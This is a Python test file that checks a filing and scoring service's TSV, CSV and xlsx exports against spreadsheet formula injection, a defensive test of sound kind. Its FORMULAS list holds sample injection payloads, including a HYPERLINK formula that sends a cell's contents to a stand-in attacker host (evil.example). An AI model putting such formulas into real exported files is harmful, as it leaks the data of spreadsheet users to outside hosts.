"""Every export (usage-report TSV/xlsx, scores CSV/xlsx) writes text a spreadsheet will not run."""

from __future__ import annotations

import copy
import csv
import io

import pytest
from openpyxl import load_workbook

from chalicelib.core import spreadsheets
from chalicelib.scoring import scheme
from tests.conftest import auth
from tests.support import approved_filing
from tests.support.scoring import ADMIN, CLOSED, seed_counters

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=1+1", "+1", "-1+2", "@SUM(A1)")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FILER = dict(sub="filer-320000", role="filer", province="320000")


def text_of(answer) -> str:
    return answer.body.decode("utf-8") if isinstance(answer.body, bytes) else answer.body


def assert_inert_cells(cells) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(TRIGGERS), repr(cell)


def assert_inert_workbook(body: bytes) -> list[str]:
    """No cell of any sheet is a formula or text a spreadsheet would run; returns the text cells."""
    book = load_workbook(io.BytesIO(body))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert_inert_cells(texts)
    return texts


@pytest.mark.parametrize("title", FORMULAS)
def test_a_filing_title_comes_back_inert_in_its_usage_report(client, title):
    filing = approved_filing(client, title=title)
    tsv = client.get(f"/filings/{filing['id']}/usage-report.tsv?begin=2024-01&end=2024-05")
    assert tsv.status == 200
    rows = list(csv.reader(io.StringIO(text_of(tsv)), delimiter="\t"))
    assert rows[15][0] == "'" + title
    assert all(len(r) == len(rows[14]) for r in rows[15:])
    assert_inert_cells(cell for row in rows for cell in row)
    xlsx = client.get(
        f"/filings/{filing['id']}/usage-report.xlsx?begin=2024-01&end=2024-05",
        headers={"Accept": spreadsheets.XLSX_TYPE},
    )
    assert xlsx.status == 200
    assert "'" + title in assert_inert_workbook(xlsx.body)


def test_the_provinces_usage_report_holds_no_live_cell(client):
    approved_filing(client, title="=1+1")
    path = "/provinces/320000/usage-report"
    tsv = client.get(f"{path}.tsv?begin=2024-01&end=2024-05", headers=auth(**FILER))
    assert tsv.status == 200
    assert_inert_cells(cell for row in csv.reader(io.StringIO(text_of(tsv)), delimiter="\t") for cell in row)
    xlsx = client.get(
        f"{path}.xlsx?begin=2024-01&end=2024-05", headers={**auth(**FILER), "Accept": spreadsheets.XLSX_TYPE}
    )
    assert xlsx.status == 200
    assert_inert_workbook(xlsx.body)


def test_scheme_names_come_back_inert_in_the_scores_csv_and_xlsx(store, client):
    store.at(CLOSED)
    seed_counters()
    body = copy.deepcopy(scheme.DEFAULT_SCHEME)
    body = {k: body[k] for k in ("name", "areas", "bonus", "flags")}
    body["name"] = FORMULAS[1]
    names = [i["name"] for a in body["areas"] for i in a["indicators"]]
    for area, name in zip(body["areas"], FORMULAS):
        area["name"] = name
    for n, indicator in enumerate(i for a in body["areas"] for i in a["indicators"]):
        indicator["name"] = f"{FORMULAS[n % len(FORMULAS)]}{names[n]}"  # names stay distinct
    assert client.put("/scoring-scheme", body, headers=ADMIN).status == 201
    assert client.post("/cycles/2024/scoring-runs", headers=ADMIN).status == 201

    answer = client.get("/cycles/2024/scores.csv", headers=ADMIN)
    assert answer.status == 200
    rows = list(csv.reader(io.StringIO(text_of(answer).lstrip("\ufeff"))))
    assert any(h.startswith("'" + FORMULAS[0]) for h in rows[0])
    assert_inert_cells(cell for row in rows for cell in row)
    assert float(rows[1][3]) > 0  # numbers stay numbers

    xlsx = client.get("/cycles/2024/scores.xlsx", headers={**ADMIN, "Accept": spreadsheets.XLSX_TYPE})
    assert xlsx.status == 200
    texts = assert_inert_workbook(xlsx.body)
    assert "'" + FORMULAS[0] in texts and "'" + FORMULAS[1] in texts
    ranking = load_workbook(io.BytesIO(xlsx.body))["排名"]
    assert isinstance(ranking["D2"].value, float) and ranking["D2"].data_type == "n"
